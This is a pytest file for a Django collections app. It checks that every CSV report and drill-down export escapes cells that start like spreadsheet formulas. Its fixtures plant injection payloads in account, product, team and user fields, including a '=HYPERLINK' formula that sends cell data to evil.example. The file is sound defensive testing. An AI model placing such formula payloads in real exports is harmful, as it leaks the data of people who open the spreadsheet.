"""Every CSV export escapes cells a spreadsheet would run as formulas (DESIGN.md 11).

The book is lived with hostile text where imports and configuration put it: an account's external
id ``=HYPERLINK(...)``, a product ``=1+2``, a team ``@SUM(1+1)``, an agent ``+ann``. Every table of
every report page and the drill-downs behind their figures are exported: no cell starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return unless it is a plain number.
"""

from __future__ import annotations

import csv
import html
import io
import re
from collections.abc import Iterator
from decimal import Decimal
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.db import transaction
from django.urls import reverse

from accounts.models import LoanAccount
from collections_app import roles
from collections_app.models import Team
from collections_app.reports.jobs import reports_aggregate_range
from collections_app.reports.tables import Column, Table, csv_cell, table_csv
from tests.factories import UserFactory
from tests.reports.book import FIRST_DAY, LAST_DAY, reports_book

pytestmark = pytest.mark.django_db
PAGES = ["report-portfolio", "report-forecast", "report-agents", "report-promises"]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^[+-]?\d+(?:\.\d+)?$")


@pytest.fixture(scope="module")
def hostile_book(django_db_setup: Any, django_db_blocker: Any) -> Iterator[None]:
    with django_db_blocker.unblock(), transaction.atomic():
        reports_book()
        LoanAccount.objects.filter(external_id="CURES").update(external_id=HYPERLINK)
        LoanAccount.objects.filter(product="cash").update(product="=1+2")
        Team.objects.filter(name="Early").update(name="@SUM(1+1)")
        User.objects.filter(username="ann").update(username="+ann", first_name="-2+3")
        reports_aggregate_range(first=FIRST_DAY, last=LAST_DAY)
        yield
        transaction.set_rollback(True)


@pytest.fixture
def reader(client, hostile_book: None, db: None):  # type: ignore[no-untyped-def]
    user = UserFactory(username="sup-reader")
    user.groups.add(roles.roles_ensure()[roles.SUPERVISOR])
    client.force_login(user)
    return client


def unsafe_cells(content: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(content.decode())))
    return [cell for row in rows for cell in row if cell.startswith(TRIGGERS) and not NUMBER.match(cell)]


def cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]


@pytest.mark.parametrize("text", ["=1+2", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", HYPERLINK])
def test_a_cell_starting_like_a_formula_is_quoted(text: str) -> None:
    table = Table(id="t", title="t", columns=[Column("name", text), Column("amount", "Amount", "money")])
    table.add(text, Decimal("-12.50"))

    rows = list(csv.reader(io.StringIO(table_csv(table))))

    assert rows == [["'" + text, "Amount"], ["'" + text, "-12.50"]]


def test_plain_text_and_negative_numbers_are_left_as_they_are() -> None:
    assert [csv_cell(value) for value in ("M1", "-12.50", "+3", "2026-02", "")] == ["M1", "-12.50", "+3", "2026-02", ""]


@pytest.mark.parametrize("page", PAGES)
def test_every_table_of_every_report_page_exports_escaped(reader, page: str) -> None:  # type: ignore[no-untyped-def]
    for params in ({}, {"group": "team"}, {"product": "=1+2"}):
        listing = reader.get(reverse(page), params)
        assert listing.status_code == 200
        exports = sorted(set(re.findall(r"[?&;]export=([\w-]+)", listing.content.decode())))
        assert exports, page
        for table_id in exports:
            response = reader.get(reverse(page), {**params, "export": table_id})

            assert response.status_code == 200, (page, table_id)
            assert unsafe_cells(response.content) == [], (page, table_id, params)


def test_the_hostile_text_reaches_the_exports_quoted(reader) -> None:  # type: ignore[no-untyped-def]
    teams = reader.get(reverse("report-agents"), {"group": "team", "export": "efficiency"})
    agents = reader.get(reverse("report-agents"), {"group": "agent", "export": "efficiency"})
    drill = reader.get(
        reverse("report-cases"),
        {"figure": "exit", "reason": "cured", "first": "2026-01-01", "last": "2026-04-30", "export": "cases"},
    )

    assert "'" + HYPERLINK in cells(drill.content)
    assert "'=1+2" in cells(drill.content)
    assert unsafe_cells(drill.content) == []
    assert "'@SUM(1+1)" in cells(teams.content), cells(teams.content)
    assert any(cell.startswith(("'+ann", "'-2+3")) for cell in cells(agents.content)), cells(agents.content)


def test_every_drill_down_linked_from_the_pages_exports_escaped(reader) -> None:  # type: ignore[no-untyped-def]
    links: set[str] = set()
    for page in PAGES:
        text = reader.get(reverse(page), {"month": "2026-02"}).content.decode()
        links |= {html.unescape(link) for link in re.findall(r'href="([^"]*figure=[^"]*)"', text)}
    figures = {re.search(r"figure=(\w+)", link).group(1) for link in links}  # type: ignore[union-attr]
    assert len(figures) >= 4, figures

    for link in sorted(links):
        response = reader.get(f"{link}&export=cases")

        assert response.status_code == 200, link
        assert unsafe_cells(response.content) == [], link
